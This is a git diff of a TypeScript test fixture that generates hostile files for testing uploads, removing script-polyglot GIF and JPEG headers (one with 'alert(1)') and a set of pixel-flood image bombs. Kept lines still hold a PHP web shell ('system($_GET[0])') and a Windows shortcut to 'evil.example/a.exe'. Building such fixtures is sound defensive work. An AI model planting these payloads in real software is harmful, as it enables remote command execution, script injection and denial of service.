@@ -1,10 +1,10 @@
 import { gzipSync } from "node:zlib";
 import sharp from "sharp";
-import { bomb, chunk, compound, doc, docx, pdf, picture, storedPicture, zip } from "./files.js";
+import { chunk, compound, doc, docx, pdf, picture, storedPicture, zip } from "./files.js";
 
 // Files that are something else than they say, or something besides.
 
-type Make = () => Buffer | Promise<Buffer>;
+export type Make = () => Buffer | Promise<Buffer>;
 /** What it is, by which name and as which type it is sent, and how it is made. */
 export type HostileFile = readonly [what: string, name: string, make: Make, contentType?: string];
 
@@ -27,9 +27,6 @@ const photograph = (before: Make) =>
     async () => Buffer.concat([Buffer.from([0xff, 0xd8]), await before()]),
     async () => (await jpeg()).subarray(2),
   );
-/** Something whose first bytes are these. */
-const beginning = (words: string, make: Make) => async () =>
-  Buffer.concat([text(words), (await make()).subarray(words.length)]);
 /** A picture with such a note. */
 const noted = async (note: Buffer) => {
   const bytes = await png();
@@ -93,20 +90,6 @@ export const hostileFiles: readonly HostileFile[] = [
         .withXmp(`<x:xmpmeta xmlns:x="adobe:ns:meta/">${String(PAGE)}</x:xmpmeta>`)
         .webp()
         .toBuffer(),
-  ],
-  ["a picture whose header opens a comment of a script", "a.gif", beginning("GIF89a/*", gif)],
-  ["a picture whose header opens a line of it", "a.gif", beginning("GIF89a//\n", gif)],
-  ["a picture whose header is given a value", "a.gif", beginning("GIF89a=1/*", gif)],
-  ["a picture whose header is its label", "a.gif", beginning("GIF89a:'", gif)],
-  [
-    "a photograph whose header opens a comment of a script",
-    "a.jpg",
-    photograph(() => Buffer.concat([Buffer.from("ffe02f2a", "hex"), Buffer.alloc(0x2f2a - 2, "*/=1;alert(1)/*")])),
-  ],
-  [
-    "a photograph whose header is given a value",
-    "a.jpg",
-    photograph(() => Buffer.concat([Buffer.from("ffe03d31", "hex"), Buffer.alloc(0x3d31 - 2, "/*")])),
   ],
   ["a picture with an archive behind it", "a.png", appended(png, archive)],
   ["a photograph with an archive behind it", "a.jpg", appended(jpeg, archive)],
@@ -239,22 +222,4 @@ export const hostileFiles: readonly HostileFile[] = [
   ["a program of the shell of Windows", "a.hta", html],
   ["a link of Windows", "a.url", () => text("[InternetShortcut]\nURL=file://evil.example/a.exe\n")],
   ["a script of the server by its other extension", "a.phtml", () => text("<?php system($_GET[0]);")],
-];
-
-const MANY = 16_000;
-/** A picture that says of so many pixels, behind these bytes, that they are its width and its height. */
-const enlarged = async (make: Make, behind: string, write: "writeUInt16LE" | "writeUInt16BE") => {
-  const bytes = Buffer.from(await make());
-  const at = bytes.indexOf(behind, "hex") + behind.length / 2;
-  bytes[write](MANY, at);
-  bytes[write](MANY, at + 2);
-  return bytes;
-};
-
-/** Pictures of some kilobytes that stand for gigabytes. */
-export const bombs: readonly HostileFile[] = [
-  ["a picture of nothing but one colour", "a.png", bomb],
-  ["a photograph", "a.jpg", () => enlarged(jpeg, "ffc0001108", "writeUInt16BE")],
-  ["a moving picture", "a.gif", () => enlarged(gif, "2c00000000", "writeUInt16LE")],
-  ["a WebP", "a.webp", () => enlarged(() => picture("webp"), "9d012a", "writeUInt16LE")],
 ];
